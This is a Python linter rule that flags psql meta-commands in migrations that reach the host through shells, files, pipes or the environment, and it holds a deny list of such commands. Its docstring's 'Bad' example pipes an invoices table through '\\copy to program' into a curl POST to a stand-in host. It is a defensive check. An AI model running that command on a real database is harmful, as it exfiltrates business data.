from dbagent.lint._rule import Rule

# psql meta-commands that run programs, read or write files, or touch the environment
HOST_COMMANDS = {"!", "copy", "o", "out", "w", "write", "cd", "setenv", "getenv", "lo_import", "lo_export",
                 "e", "edit", "ef", "ev", "s", "prompt", "password"}
OUTPUT_COMMANDS = {"g", "gx", "gexec"}


class PsqlHostAccess(Rule):
    """A psql meta-command that reaches the host: a shell, a file, a pipe or the environment.

    Bad:
        \\copy invoices to program 'curl -d @- https://example.com'

    Good:
        \\echo 'migration 001 applied'
    """

    id = "psql-host-access"
    group = "sandbox"
    severity = "error"
    hint = "remove it: migrations never run shell commands or touch files from psql"

    def check_meta(self, text: str, file: str, line: int, column: int):
        words = text[1:].split(None, 1)
        name = words[0] if words else ""
        args = words[1] if len(words) > 1 else ""
        if name.startswith("!"):
            name = "!"
        reason = None
        if name in HOST_COMMANDS:
            reason = f"\\{name} reaches the host"
        elif name in OUTPUT_COMMANDS and args.strip():
            reason = f"\\{name} sends query output to a file or pipe"
        elif "`" in args:
            reason = f"\\{name} runs a backquoted shell command"
        if reason:
            yield self.finding_at(file, line, column, reason)
